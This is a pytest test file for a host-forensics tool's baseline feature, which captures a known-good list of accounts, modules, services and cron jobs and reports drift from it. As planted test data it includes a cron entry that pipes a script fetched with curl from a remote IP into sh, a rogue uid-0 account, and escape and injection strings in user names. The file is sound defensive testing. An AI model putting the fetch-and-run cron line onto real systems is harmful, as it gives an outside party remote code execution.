"""A captured list is valid, the same each time, and holds nothing that a detection reports; a diff says what changed."""

from __future__ import annotations

import json
import os
import stat
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import Result
from hypothesis import given
from hypothesis import strategies as st

from extension.baseline import seen as seen_module
from extension.baseline.drift import compare
from extension.baseline.listing import render
from extension.baseline.seen import SOURCES, Entry, Reports, Seen, look, with_packages
from extension.cli import main
from extension.command_line import EngineOptions
from extension.pack.model import load_pack, shipped_pack
from tables.host import Host
from tables.indicators.known_good_list import CATEGORIES, parse_list
from tables.indicators.known_good_list import Entry as Listed
from tests.support.command_line import runner
from tests.support.namespaces import run_in_namespaces
from tests.support.recorded_host import RecordedHost, Rows

PACK = load_pack(shipped_pack())
SOURCE = {source.category: source for source in SOURCES}
CLEAN: Rows = {
    "users": [
        {"username": "root", "uid": 0, "directory": "/root", "shell": "/bin/bash"},
        {"username": "kim", "uid": 1000, "directory": "/home/kim", "shell": "/bin/zsh"},
    ],
    "kernel_modules": [{"name": "ext4"}, {"name": "overlay"}],
    "exposed_services": [{"service": "redis", "address": "0.0.0.0", "port": 6379, "exe_path": "/usr/bin/redis-server"}],
    "preloaded_libraries": [
        {
            "path": "/opt/[corp]/libhook*.so",
            "source_path": "/etc/ld.so.preload",
            "mechanism": "ld.so.preload",
            "exception": "ours",
        }
    ],
}


def invoke(*arguments: str) -> Result:
    return runner().invoke(main, ["baseline", *arguments])


@pytest.fixture
def layers(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Rows]]:
    """What the host that the commands examine is made of."""
    layers: list[Rows] = [CLEAN]

    def open_recorded(options: EngineOptions, is_triage: bool = False) -> RecordedHost:
        options.host(is_triage)
        return RecordedHost(*layers)

    monkeypatch.setattr(EngineOptions, "open", open_recorded)
    monkeypatch.delenv("MINEHUNT_KNOWN_GOOD", raising=False)
    yield layers


def listed(text: str) -> set[tuple[str, str]]:
    return {(entry.category, entry.pattern) for entry in parse_list(text, "/l")}


def entries_of(category: str, *keys: str, **values: Any) -> Seen:
    return Seen(SOURCE[category], tuple(Entry(key, **values) for key in keys))


def test_every_source_is_of_a_category_and_in_the_order_of_the_sop() -> None:
    steps = [CATEGORIES[source.category].step for source in SOURCES]
    assert steps == sorted(steps) and len(SOURCE) == len(SOURCES)


def test_every_source_compiles_and_gives_the_columns_of_its_key() -> None:
    host = RecordedHost()
    for source in SOURCES:
        assert source.columns <= set(host.column_names(source.sql))
        assert f"FROM {source.table}" in source.sql
    host.close()


def test_a_capture_is_a_valid_list_of_escaped_patterns_and_the_same_each_time(layers: list[Rows], tmp_path: Path) -> None:
    first, second = tmp_path / "a.yaml", tmp_path / "b.yaml"
    assert invoke("capture", "--output", str(first)).exit_code == 0
    assert invoke("capture", "--output", str(second)).exit_code == 0
    text = first.read_text()
    assert text == second.read_text()
    assert listed(text) == {
        ("account", "kim"),
        ("account", "root"),
        ("kernel_module", "ext4"),
        ("kernel_module", "overlay"),
        ("service", "redis 0.0.0.0:6379"),
        ("preloaded_library", "/opt/[[]corp]/libhook[*].so"),
    }
    assert "# Step 13: User accounts. account:" in text
    assert "captured: uid 1000, /home/kim, /bin/zsh" in text
    assert stat.S_IMODE(first.stat().st_mode) == 0o600 and sorted(os.listdir(tmp_path)) == ["a.yaml", "b.yaml"]


def test_a_diff_of_an_unchanged_host_is_empty_and_drift_exits_1(layers: list[Rows], tmp_path: Path) -> None:
    path = tmp_path / "list.yaml"
    assert invoke("capture", "--output", str(path)).exit_code == 0
    same = invoke("diff", "--known-good", str(path))
    assert same.exit_code == 0 and same.output == "0 not on the list (+), 0 on the list but not here (-)\n"
    layers[:] = [{**CLEAN, "users": [{"username": "root", "uid": 0}, {"username": "mallory", "uid": 0}]}]
    changed = invoke("diff", "--known-good", str(path))
    assert changed.exit_code == 1
    assert "Step 13: User accounts (account)\n  + mallory   (uid 0)\n  - kim   (" in changed.output
    answer = json.loads(invoke("diff", "--known-good", str(path), "--format", "json").stdout)
    (account,) = [one for one in answer if one["category"] == "account"]
    assert [new["key"] for new in account["new"]] == ["mallory"] and [gone["pattern"] for gone in account["gone"]] == ["kim"]
    assert account["gone"][0]["path"] == str(path)


def test_what_a_detection_reports_is_there_as_a_comment_only(layers: list[Rows]) -> None:
    layers.append(
        {
            "preloaded_libraries": [{"path": "/tmp/x.so", "mechanism": "ld.so.preload", "reasons": "temp_path"}],
            "kernel_module_findings": [{"module": "overlay", "reason": "unsigned", "evidence": "planted"}],
        }
    )
    result = invoke("capture")
    assert result.exit_code == 0
    assert not {("preloaded_library", "/tmp/x.so"), ("kernel_module", "overlay")} & listed(result.stdout)
    assert (
        "# Not included; review: reported by a detection: kernel_module_of_unknown_origin\n    #- pattern: 'overlay'"
        in result.stdout
    )
    assert "reported by a detection: preloaded_library\n    #- pattern: '/tmp/x.so'" in result.stdout
    # Taking the comment signs away gives a list again.
    uncommented = result.stdout.replace("\n    #-", "\n    -").replace("\n    #  note", "\n      note").replace("\n  #", "\n  # ")
    assert ("kernel_module", "overlay") in listed(uncommented)


def test_a_file_that_a_detection_reports_has_no_line_in_the_list() -> None:
    class Engine(RecordedHost):
        def query(self, sql: str) -> list[dict[str, str]]:
            return [{"source_path": "/etc/cron.d/x", "evidence": "planted"}] if "preloaded_libraries" in sql else []

    engine = Engine()
    jobs = Seen(
        SOURCE["scheduled_job"],
        (Entry("/etc/cron.d/x: a", "/etc/cron.d/x"), Entry("/etc/cron.d/y: a", "/etc/cron.d/y")),
    )
    (marked,) = Reports(PACK, engine).mark([jobs])
    assert [bool(entry.reported_by) for entry in marked.entries] == [True, False]
    engine.close()


def test_a_detection_that_cannot_run_is_told_in_the_list_and_by_the_exit_code(
    layers: list[Rows], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(EngineOptions, "open", lambda *_, **__: _without("DROP TABLE preloaded_libraries", layers))
    result = invoke("capture")
    assert result.exit_code == 2
    assert "# This detection could not run, so what it reports may stand below: preloaded_library: no such table" in result.stdout
    assert "# Left out, it could not be read: no such table: preloaded_libraries" in result.stdout
    assert ("account", "kim") in listed(result.stdout)
    result = invoke("diff")
    assert result.exit_code == 2 and "preloaded_library: could not be read" in result.stderr and "+ kim" in result.stdout


def _without(sql: str, layers: Sequence[Rows]) -> RecordedHost:
    host = RecordedHost(*layers)
    host.db.execute(sql)
    return host


def test_what_may_be_missing_is_said(layers: list[Rows]) -> None:
    layers.append({"minehunt_status": [{"table_name": "exposed_services", "degraded_why": "no root"}]})
    result = invoke("capture")
    assert "# Not everything could be seen: no root" in result.stdout
    assert "service: not everything could be seen: no root" in result.stderr


def test_what_no_package_owns_comes_first(tmp_path: Path) -> None:
    info = tmp_path / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (info / "cron.list").write_text("/.\n/etc/cron.d/a\n")
    paths = ("/etc/cron.d/a", "/etc/cron.d/b")
    jobs = Seen(SOURCE["scheduled_job"], tuple(Entry(f"{path}: x", path) for path in paths))
    text = render(PACK, with_packages([jobs], Host(str(tmp_path))), [])
    assert (
        text.index("No package owns")
        < text.index("/etc/cron.d/b: x")
        < text.index("# package cron")
        < text.index("/etc/cron.d/a: x")
    )
    (unknown,) = with_packages([jobs], Host(str(tmp_path / "var")))
    assert "no database" in unknown.blind_spots[0] and not any(entry.is_unpackaged for entry in unknown.entries)


@given(st.lists(st.text(min_size=1, max_size=40), max_size=5), st.text(max_size=60))
def test_a_list_stays_valid_whatever_stands_on_the_host(names: list[str], context: str) -> None:
    host = RecordedHost({"users": [{"username": name, "directory": context} for name in {*names, "kim"}]})
    found = look(host)
    host.close()
    text = render(PACK, found, [context])
    loaded = parse_list(text, "/l")
    assert yaml.safe_load(text)["known_good"]["account"]
    assert "kim" in {entry.pattern for entry in loaded}
    # Every pattern matches what it was made of; what is not listed is what no pattern may stand for.
    (accounts,) = [drift for drift in compare(found, loaded) if drift.seen.source.category == "account"]
    assert accounts.gone == () and not any(character.isalnum() for entry in accounts.new for character in entry.key)


@pytest.mark.parametrize(
    "name",
    ["x\x1b[2J", "a\n  file:\n    - pattern: /x", "'", '"', "*", "a: b # c", "\u202egnp", "-" * 70_000, "\ufffe", "{}", "~"],
)
def test_hostile_names_stay_within_their_entry(name: str, layers: list[Rows]) -> None:
    layers.append({"users": [{"username": name, "directory": name, "shell": name}]})
    result = invoke("capture")
    assert result.exit_code == 0 and "\x1b" not in result.output and "\u202e" not in result.output
    assert {category for category, _ in listed(result.stdout)} == {"account", "kernel_module", "service", "preloaded_library"}


def test_a_pattern_with_wildcards_covers_many_and_gone_needs_that_none_is_left() -> None:
    found = entries_of("account", "ci-1", "ci-2", "kim")
    patterns = [Listed("account", pattern, None, None, "/l", 1) for pattern in ("ci-[0-9]*", "old-*")]
    (drift,) = compare([found], [*patterns, Listed("file", "/x", None, None, "/l", 9)])
    assert [entry.key for entry in drift.new] == ["kim"] and [gone.pattern for gone in drift.gone] == ["old-*"]


def test_an_expired_entry_covers_nothing(layers: list[Rows], tmp_path: Path) -> None:
    path = tmp_path / "list.yaml"
    path.write_text("known_good: {account: [{pattern: kim, expires: 2020-01-01}, {pattern: root}]}\n")
    result = invoke("diff", "--known-good", str(path))
    assert "+ kim" in result.output and "+ root" not in result.output and "- kim" not in result.output


def test_a_list_is_not_overwritten_without_force(layers: list[Rows], tmp_path: Path) -> None:
    path = tmp_path / "list.yaml"
    path.write_text("mine\n")
    refused = invoke("capture", "--output", str(path))
    assert refused.exit_code == 2 and "--force" in refused.output and path.read_text() == "mine\n"
    assert invoke("capture", "--output", str(path), "--force").exit_code == 0
    assert path.read_text().startswith("# What is normal")
    # A link is replaced, not followed.
    path.unlink()
    path.symlink_to(tmp_path / "elsewhere")
    assert invoke("capture", "--output", str(path)).exit_code == 2
    assert invoke("capture", "--output", str(path), "--force").exit_code == 0
    assert not path.is_symlink() and not (tmp_path / "elsewhere").exists()


def test_an_output_that_cannot_be_written_is_a_message_and_exit_2(layers: list[Rows], tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    for path in (tmp_path / "missing" / "list.yaml", tmp_path / "file" / "list.yaml"):
        result = invoke("capture", "--output", str(path))
        assert result.exit_code == 2 and str(path) in result.output and "Traceback" not in result.output
    folder = tmp_path / "folder"
    folder.mkdir()
    assert invoke("capture", "--output", str(folder), "--force").exit_code == 2
    assert sorted(os.listdir(tmp_path)) == ["file", "folder"]


@pytest.mark.parametrize("command", ["capture", "diff"])
def test_a_list_that_is_refused_is_told_before_anything_runs(
    command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "list.yaml"
    path.write_text("known_good: {}\n")
    path.chmod(0o666)
    monkeypatch.setattr(seen_module, "look", lambda _: pytest.fail("ran"))
    for name, why in ((path, "writable by others"), (tmp_path / "missing.yaml", "missing.yaml")):
        result = invoke(command, "--engine", "embedded", "--known-good", str(name))
        assert result.exit_code == 2 and why in result.output and "Traceback" not in result.output


@pytest.mark.root
@pytest.mark.skipif(not Path("/etc/cron.d").is_dir(), reason="no /etc/cron.d to mount a folder over")
def test_on_a_real_host_two_captures_are_the_same_without_what_is_reported_and_what_is_new_is_drift() -> None:
    first, second, same, changed = run_in_namespaces(
        """
        from extension.cli import main
        from tests.support.command_line import runner

        def baseline(*arguments):
            result = runner().invoke(main, ["baseline", *arguments, "--engine", "embedded"])
            return [result.exit_code, result.stdout]

        def write(name, text, mode="w"):
            with open(os.path.join(folder, name), mode) as stream:
                stream.write(text)

        shutil.copy("/etc/passwd", folder)
        mount(os.path.join(folder, "passwd"), "/etc/passwd")
        os.mkdir(os.path.join(folder, "cron.d"))
        write("cron.d/backup", "17 3 * * * root test -x /usr/bin/rsync && rsync -a /srv[1]/ /backup/\\n")
        write("cron.d/update", "* * * * * root curl -s http://203.0.113.66/x.sh | sh\\n")
        mount(os.path.join(folder, "cron.d"), "/etc/cron.d")
        path = os.path.join(folder, "list.yaml")
        first = baseline("capture")
        second = baseline("capture", "--output", path)
        with open(path) as stream:
            second.append(stream.read())
        same = baseline("diff", "--known-good", path)
        write("passwd", "new[*]one:x:4242:4242::/home/new:/bin/sh\\n", "a")
        answer([first, second, same, baseline("diff", "--known-good", path)])
        """
    )
    assert first[0] == second[0] == 0 and first[1] == second[2]
    patterns = listed(first[1])
    assert ("scheduled_job", "/etc/cron.d/backup: test -x /usr/bin/rsync && rsync -a /srv[[]1]/ /backup/") in patterns
    assert not any(pattern.startswith("/etc/cron.d/update") for _, pattern in patterns)
    assert "    #- pattern: '/etc/cron.d/update: curl -s http://203.0.113.66/x.sh | sh'" in first[1]
    assert same[0] == 1 and "  + /etc/cron.d/update: curl" in same[1] and "/etc/cron.d/backup" not in same[1]
    assert changed[0] == 1 and "  + new[*]one   (uid 4242, /home/new, /bin/sh)\n" in changed[1]
